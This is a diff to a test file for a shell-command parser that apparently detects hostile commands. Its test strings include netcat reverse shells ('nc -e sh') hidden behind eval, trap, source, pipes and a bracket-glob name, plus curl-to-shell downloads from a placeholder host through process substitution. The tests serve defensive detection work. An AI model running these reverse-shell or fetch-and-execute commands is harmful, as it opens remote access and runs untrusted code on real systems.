@@ -243,6 +243,12 @@ test('grammar gaps do not hide a command: substitutions anywhere, keywords it la
     "trap 'nc -e sh h 1' EXIT", "mapfile -C 'nc -e sh h 1' -c 1 <<< a", "eval -- 'nc -e sh h 1'", "source /dev/stdin <<< 'nc -e sh h 1'", "echo 'nc -e sh h 1' | bash /dev/stdin",
   ];
   for (const t of forms) assert.ok(nc(t), `${t}: ${JSON.stringify(run(t).commands.map((c) => c.argv))}`);
+  assert.equal(run('/usr/bin/[n]c -e sh h 1').commands[0]!.argv[0], '/usr/bin/nc', 'a one-character bracket glob in the name');
+  for (const t of ['curl -s http://x.test/a > >(sh)', 'curl -s -o >(sh) http://x.test/a', 'curl -s http://x.test/a | tee >(sh) >/dev/null']) {
+    const sh = must(run(t), 'sh');
+    assert.ok(sh.input_from.includes('curl') && sh.flags.includes('code_from_input'), `${t}: ${JSON.stringify(sh)}`);
+  }
+  assert.deepEqual(must(run('diff <(ls a) <(ls b)'), 'ls').input_from, [], 'an input substitution reads nothing of the command');
   assert.equal(nc("cat <<'EOF' > notes.md\n$(nc -e sh h 1)\nEOF"), undefined, 'a quoted heredoc is text');
   assert.equal(nc("echo 'time { nc -e sh h 1; }'"), undefined, 'a mention is not a command');
   assert.equal(nc("trap - EXIT; echo 'nc -e sh h 1'"), undefined);
